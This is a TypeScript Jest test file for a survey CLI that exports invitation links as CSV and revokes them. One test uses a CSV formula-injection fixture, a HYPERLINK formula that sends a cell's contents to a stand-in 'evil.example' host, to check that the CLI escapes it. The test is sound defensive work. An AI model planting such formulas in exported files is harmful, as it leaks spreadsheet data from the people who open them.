/**
 * The built `survey invite` as a process on a DATA_DIR the app wrote: the CSV file it writes, its
 * exit codes, and `survey invite revoke` taking effect on the app. (Refusals by the domain, such as
 * a closed campaign, are the e2e and unit tests' business; each run here starts a process.)
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startApp, TEST_SECRET, TestApp } from './support/app';
import { parse } from 'csv-parse/sync';
import { creditCode } from './support/fixtures';
import { expectProblem } from './support/problem';
import { assertBuilt, serverEnv } from './support/server-process';
import { openCampaign, registered } from './support/survey';
import { describeOnEmbeddedStores } from './support/stores';

jest.setTimeout(60_000);

const CLI_JS = join(__dirname, '..', 'dist', 'apps', 'cli', 'src', 'main.js');

describeOnEmbeddedStores('survey invite (built CLI)', () => {
  const dataDir = mkdtempSync(join(tmpdir(), 'survey-invite-'));
  let codes: string[];
  const survey = (...args: string[]) => {
    const run = spawnSync(process.execPath, [CLI_JS, ...args], {
      env: serverEnv({ DATA_DIR: dataDir, SURVEY_JWT_SECRET: TEST_SECRET, PUBLIC_URL: 'https://survey.example.gov.cn/' }), encoding: 'utf8', timeout: 20_000,
    });
    return { code: run.status, stdout: run.stdout, stderr: run.stderr };
  };
  const withApp = async (work: (t: TestApp) => Promise<void>) => {
    const t = await startApp({ dataDir });
    try {
      await work(t);
    } finally {
      await t.close();
    }
  };

  beforeAll(async () => {
    assertBuilt();
    await withApp(async (t) => {
      await openCampaign(t, 'c1');
      codes = [await registered(t, 1), await registered(t, 2, { district: '云龙区' })];
    });
  });
  afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

  it('writes the links as CSV with a BOM, filtered; 1 when nobody matches, 2 on bad usage', () => {
    const out = join(dataDir, 'links.csv');
    const run = survey('invite', 'c1', '--district', '云龙区', '--out', out);
    expect(run).toMatchObject({ code: 0, stderr: expect.stringMatching(/^c1: 1 links \(1 newly invited\), valid until .*, written to/) });
    const [header, row, end] = readFileSync(out, 'utf8').split('\r\n');
    expect(header).toBe('\uFEFFcredit_code,name,district,link');
    expect(row).toMatch(new RegExp(`^${codes[1]},徐州测试科技有限公司,云龙区,https://survey\\.example\\.gov\\.cn/q#t=[\\w-]+\\.[\\w-]+\\.[\\w-]+$`));
    expect(end).toBe('');

    expect(survey('invite', 'c1', '--size', 'huge')).toMatchObject({ code: 1, stderr: expect.stringMatching(/no registered enterprise matches/) });
    expect(survey('invite', 'c1', '--grace-days', 'x').code).toBe(2);
    expect(survey('invite', 'revoke', 'c1', codes[0]).code).toBe(2); // --reason is required
  });

  it('revoke: the link gets 401 from the app; revoking again exits 1', async () => {
    const all = survey('invite', 'c1');
    expect(all.stdout.split('\r\n').filter(Boolean)).toHaveLength(3);
    expect(all.stderr).toMatch(/2 links \(1 newly invited\)/);
    const link = all.stdout.split('\r\n').find((r) => r.startsWith(codes[0]))!.split(',').at(-1)!;
    const token = new URL(link).hash.slice('#t='.length);
    expect(survey('invite', 'revoke', 'c1', codes[0], '--reason', 'wrong address')).toMatchObject({ code: 0, stderr: expect.stringMatching(/are revoked/) });
    expect(survey('invite', 'revoke', 'c1', codes[0], '--reason', 'again')).toMatchObject({ code: 1, stderr: expect.stringMatching(/already revoked/) });
    await withApp(async (t) => {
      expectProblem(await t.http().get('/v1/campaigns/c1/evaluations').set({ authorization: `Bearer ${token}` }), 401, /invitation revoked/);
    });
  });

  it('writes a name or a district that a spreadsheet would run as text (an apostrophe first)', async () => {
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"点此领取")';
    await withApp(async (t) => {
      await registered(t, 3, { name, district: '-泉山区' });
    });
    const run = survey('invite', 'c1', '--district=-泉山区');
    expect(run.code).toBe(0);
    const row = run.stdout.split('\r\n')[1];
    expect(row).toMatch(new RegExp(`^${creditCode(3)},"'=HYPERLINK\\(""http://evil\\.example/\\?x=""&A1,""点此领取""\\)",'-泉山区,https://`));
    // The same text read back by a CSV parser is the name with an apostrophe before it, nothing else.
    const [cells] = parse(run.stdout.split('\r\n')[1]) as string[][];
    expect(cells.slice(0, 3)).toEqual([creditCode(3), `'${name}`, "'-泉山区"]);
  });
});
